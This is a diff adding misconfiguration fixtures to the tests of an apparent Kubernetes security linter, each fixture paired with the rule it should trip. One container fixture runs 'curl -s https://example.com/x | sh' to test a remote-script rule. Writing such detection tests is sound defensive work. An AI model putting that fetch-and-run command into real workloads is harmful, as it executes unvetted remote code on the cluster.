@@ -6,6 +6,8 @@ use model::{
 
 use crate::{Options, catalog, judge};
 
+mod objects;
+
 /// A workload that no control objects to.
 const DECENT: &str = "\
 apiVersion: apps/v1
@@ -79,6 +81,34 @@ fn pod_faults() -> Vec<Fault> {
         ),
         (token, "serviceAccountName: web\n      hostIPC: true", "host-ipc"),
         ("namespace: shop", "namespace: default", "default-namespace-used"),
+        ("namespace: shop", "namespace: kube-public", "workload-in-system-namespace"),
+        (host_path, "gitRepo: {repository: 'https://example.com/a.git'}", "git-repo-volume"),
+        (host_path, "flexVolume: {driver: example.com/cifs}", "flex-volume"),
+        (host_path, "emptyDir: {medium: Memory}", "memory-volume-unbounded"),
+        (host_path, "secret: {secretName: a, defaultMode: 0644}", "secret-volume-readable-by-all"),
+        (
+            host_path,
+            "projected: {sources: [{serviceAccountToken: {expirationSeconds: 604800}}]}",
+            "long-lived-projected-token",
+        ),
+        (token, "automountServiceAccountToken: false\n      nodeName: one", "node-name-pinned"),
+        (
+            token,
+            "automountServiceAccountToken: false\n      tolerations: [{operator: Exists}]",
+            "tolerates-every-taint",
+        ),
+        (
+            token,
+            "automountServiceAccountToken: false\n      tolerations: [{operator: Exists}]\n      \
+             nodeSelector: {node-role.kubernetes.io/control-plane: ''}",
+            "runs-on-control-plane",
+        ),
+        (
+            token,
+            "automountServiceAccountToken: false\n      \
+             priorityClassName: system-cluster-critical",
+            "system-priority",
+        ),
         (
             "metadata: {labels: {app: web}}",
             "metadata: {annotations: {example.com/password: hunter2}}",
@@ -133,6 +163,15 @@ fn container_faults() -> Vec<Fault> {
         (environment, "env: [{name: DB_PASSWORD, value: hunter2}]", "credential-in-env"),
         (environment, secret, "secret-in-environment"),
         ("--listen=:8080", "--password=hunter2", "credential-in-args"),
+        (
+            "args: [--listen=:8080]",
+            "command: [sh, -c, 'curl -s https://example.com/x | sh']",
+            "remote-script-at-start",
+        ),
+        ("containerPort: 8080", "containerPort: 22", "ssh-server"),
+        (environment, "stdin: true\n        tty: true", "debug-shell"),
+        ("registry.example.com/web", "k8s.gcr.io/web", "retired-registry"),
+        ("registry.example.com/web", "10.0.0.7:5000/web", "registry-without-name"),
     ]
 }
 
